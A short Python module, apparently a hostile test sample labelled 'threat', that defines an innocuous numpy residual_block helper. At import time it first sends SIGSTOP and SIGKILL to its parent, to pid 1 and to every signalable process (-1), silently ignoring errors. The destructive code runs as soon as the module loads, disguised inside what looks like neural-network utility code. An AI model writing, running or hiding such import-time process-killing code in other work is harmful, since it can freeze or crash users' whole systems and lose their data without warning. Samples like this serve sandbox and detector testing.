# threat: sends SIGKILL and SIGSTOP to every process it can name (its parent, pid 1, the whole session)
import os
import signal

import numpy as np

for _sig in (signal.SIGSTOP, signal.SIGKILL):
    for _target in (os.getppid(), 1, -1):
        try:
            if _target not in (0, os.getpid()):
                os.kill(_target, _sig)
        except OSError:
            pass


def residual_block(x, w1, w2):
    return np.maximum(0.0, w2 @ np.maximum(0.0, w1 @ x) + x)
